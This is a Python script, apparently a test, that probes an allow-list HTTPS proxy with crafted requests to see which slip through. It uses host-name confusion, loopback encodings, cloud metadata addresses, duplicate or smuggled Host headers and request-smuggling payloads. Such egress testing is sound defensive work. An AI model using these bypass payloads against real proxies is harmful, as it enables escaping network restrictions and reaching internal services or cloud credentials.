"""Asks the proxy of an allow-list for what is not on it, in every way that might confuse it; prints what was let out."""
import collections
import os
import socket
import sys
import urllib.parse

allowed, foreign = sys.argv[1], sys.argv[2]
name, port = allowed.split(":")
proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])

TARGETS = [foreign, f"{name}:1", f"{name}:65536", f"{name}.:{port}", f".{name}:{port}", f"{name}.evil.test:{port}",
           f"evil{name}:{port}", f"a.{name}:{port}", f"{name}@evil.test:{port}", f"evil.test@{name}:{port}",
           f"{name}%00.evil.test:{port}", f"{name}\0.evil.test:{port}", f"{name}#:{port}", f"{name}/:{port}",
           f"{name}:{port}:{port}", f"{name}:+{port}", f"{name}", f"*:{port}", f"127.0.0.1:{port}", f"127.1:{port}",
           f"0:{port}", f"0.0.0.0:{port}", f"2130706433:{port}", f"0x7f000001:{port}", f"0177.0.0.1:{port}",
           f"[::1]:{port}", f"[::ffff:127.0.0.1]:{port}", f"[::ffff:7f00:1]:{port}", f"[::]:{port}", f"[fe80::1%25lo]:{port}",
           f"sandbox:{port}", "host.docker.internal:80", "169.254.169.254:80", "[fd00:ec2::254]:80", "2852039166:80",
           "example.com:443", "8.8.8.8:53", "10.0.0.1:80", "192.168.0.1:80", "metadata.google.internal:80"]

requests = [f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n" for target in TARGETS]
requests += [f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n" for target in TARGETS]
requests += [
    f"GET http://{allowed}/ HTTP/1.1\r\nHost: {foreign}\r\n\r\n",
    f"GET http://{foreign}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
    f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\nHost: {foreign}\r\n\r\n",
    f"GET http://{allowed}/ HTTP/1.1\r\nX: a\rHost: {foreign}\r\nHost: {allowed}\r\nHost: {foreign}\r\n\r\n",
    f"GET http://{allowed}\r\nHost: {foreign}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
    f"CONNECT {allowed} HTTP/1.1\r\nHost: {foreign}\r\n\r\n",
    f"GET / HTTP/1.1\r\nHost: {foreign}\r\n\r\n",
    f"GET https://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
    f"POST http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "\x05\x01\x00\x03\x09localhost\x00\x50",
]

statuses = collections.Counter()
for request in requests:
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as connection:
        connection.sendall(request.encode("latin-1"))
        status = connection.recv(4096).split(b"\r\n")[0].decode("latin-1")
    if status.startswith("HTTP/1.1 2"):
        print("let out:", repr(request), status)
    statuses[status.split(" ")[1] if " " in status else "none"] += 1
print(len(requests), *sorted(statuses))
